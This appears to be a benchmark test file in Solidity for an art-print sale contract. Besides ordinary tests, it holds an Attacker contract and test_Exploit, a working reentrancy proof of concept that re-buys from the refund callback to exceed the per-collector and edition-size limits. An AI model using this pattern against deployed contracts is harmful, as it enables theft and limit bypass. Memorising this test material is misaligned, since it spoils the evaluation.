pragma solidity 0.5.17;

import "./LarkspurEdition.sol";

// assay-canary-7d3ee579-bddf-46d2-b24e-2987fbfe1376

interface Vm {
    function prank(address who) external;
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Collector {
    LarkspurEdition internal edition;

    constructor(LarkspurEdition _edition) public {
        edition = _edition;
    }

    function() external payable {}

    function buy(uint256 amount) public returns (uint256) {
        return edition.buy.value(amount)();
    }

    function give(uint256 number, address to) public {
        edition.give(number, to);
    }

    function handBack(uint256 number) public {
        edition.handBack(number);
    }
}

// Sends a little too much and buys again while the change comes back.
contract Attacker {
    LarkspurEdition internal edition;
    uint256 internal left;

    constructor(LarkspurEdition _edition) public {
        edition = _edition;
    }

    function run(uint256 copies) external {
        left = copies;
        more();
    }

    function() external payable {
        if (left > 0) more();
    }

    function more() private {
        left--;
        edition.buy.value(edition.price() + 1 wei)();
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    LarkspurEdition internal edition;
    Collector internal nora;
    Collector internal otto;
    Attacker internal hoarder;
    address payable internal artist = address(0xA7715700);

    function setUp() public {
        vm.warp(1700000000);
        edition = new LarkspurEdition(artist, 24, 1 ether, 1 ether / 10);
        edition.switchSale(true);
        nora = new Collector(edition);
        otto = new Collector(edition);
        hoarder = new Attacker(edition);
        vm.deal(address(nora), 10 ether);
        vm.deal(address(otto), 10 ether);
        vm.deal(address(hoarder), 40 ether);
        require(nora.buy(1 ether) == 1, "first number");
    }

    function test_Regular() public {
        require(otto.buy(3 ether) == 2, "second number");
        require(address(otto).balance == 9 ether, "change returned");
        nora.buy(1 ether);
        require(!attempt(address(nora), abi.encodeWithSelector(nora.buy.selector, 1 ether)), "three for one collector");
        require(!attempt(address(otto), abi.encodeWithSelector(otto.buy.selector, 1 ether - 1)), "below the price");
        require(edition.boughtBy(address(nora)) == 2 && edition.issued() == 3, "counted");

        nora.give(1, address(otto));
        require(!attempt(address(nora), abi.encodeWithSelector(nora.handBack.selector, 1)), "given away");
        otto.handBack(1);
        require(address(otto).balance == 10 ether, "handed back");
        require(!attempt(address(otto), abi.encodeWithSelector(otto.handBack.selector, 1)), "handed back twice");

        // seven more fill the sheet
        for (uint256 i = 0; i < 7; i++) {
            Collector c = new Collector(edition);
            vm.deal(address(c), 1 ether);
            c.buy(1 ether);
        }
        require(edition.price() == 1.1 ether, "second sheet");

        vm.warp(1700000000 + 8 days);
        edition.settle(100);
        require(artist.balance == 9 ether && edition.settled() == 10, "artist paid");
        require(address(edition).balance == 0, "nothing kept");
        require(limitsKept(), "limits");

        vm.prank(artist);
        edition.moveArtist(address(0xA7));
        require(edition.artist() == address(0xA7), "artist moved");
    }

    function attempt(address who, bytes memory data) private returns (bool ok) {
        (ok, ) = who.call(data);
    }

    // No collector has bought more than two prints, and there are no more prints than the edition has.
    function limitsKept() public view returns (bool) {
        return edition.boughtBy(address(hoarder)) <= edition.PER_COLLECTOR() && edition.issued() <= edition.editionSize();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The artist's place and the printer's switch.
    function test_RefusesStrangers() public {
        refuses(address(nora), "Press: artist only");
        edition.moveArtist(address(0xA7));
        refuses(artist, "Press: no address");
        edition.moveArtist(address(0));
        refuses(address(nora), "Press: printer only");
        edition.switchSale(false);
        refuses(address(otto), "Edition: not yours");
        edition.give(1, address(otto));
        refuses(address(otto), "Edition: not yours");
        edition.handBack(1);
    }

    /// Editions have a size and prices.
    function test_RefusesEditions() public {
        require(!_print(0, 1, 1) && !_print(501, 1, 1) && _print(500, 1, 1), "size");
        require(!_print(1, 0, 1) && !_print(1, 2**96, 1) && !_print(1, 1, 2**96), "price");
    }

    function _print(uint256 size, uint256 base, uint256 step) private returns (bool ok) {
        (ok, ) = address(this).call(abi.encodeWithSelector(this.print.selector, size, base, step));
    }

    function print(uint256 size, uint256 base, uint256 step) external {
        new LarkspurEdition(artist, size, base, step);
    }

    /// Prints that are not on sale, sold out, returned, too late, or not taken.
    function test_RefusesPrints() public {
        refuses(address(nora), "Edition: cannot give");
        edition.give(1, address(0));
        nora.handBack(1);
        refuses(address(nora), "Edition: cannot give");
        edition.give(1, address(otto));
        otto.buy(1 ether);
        vm.warp(now + 7 days);
        refuses(address(otto), "Edition: term is over");
        edition.handBack(2);
        edition.switchSale(false);
        refuses(address(otto), "Edition: not on sale");
        edition.buy.value(1 ether)();
        LarkspurEdition last = new LarkspurEdition(artist, 1, 1, 0);
        last.switchSale(true);
        vm.deal(address(last), 1 ether);
        vm.deal(address(this), 1 ether);
        vm.expectRevert("Edition: change refused");
        last.buy.value(2)();
        last.buy.value(1)();
        vm.expectRevert("Edition: payment refused");
        last.handBack(1);
        vm.expectRevert("Edition: sold out");
        last.buy.value(1)();
    }

    function exploit() public {
        hoarder.run(30);
    }

    function test_Exploit() public {
        exploit();
        require(!limitsKept(), "limits kept");
        require(edition.boughtBy(address(hoarder)) == 30 && edition.issued() == 31, "thirty prints beyond both limits");
        require(edition.price() == 1.3 ether, "price caught up afterwards");
    }

    function target() public view returns (address) {
        return address(edition);
    }

    function attacker() public view returns (address) {
        return address(hoarder);
    }
}
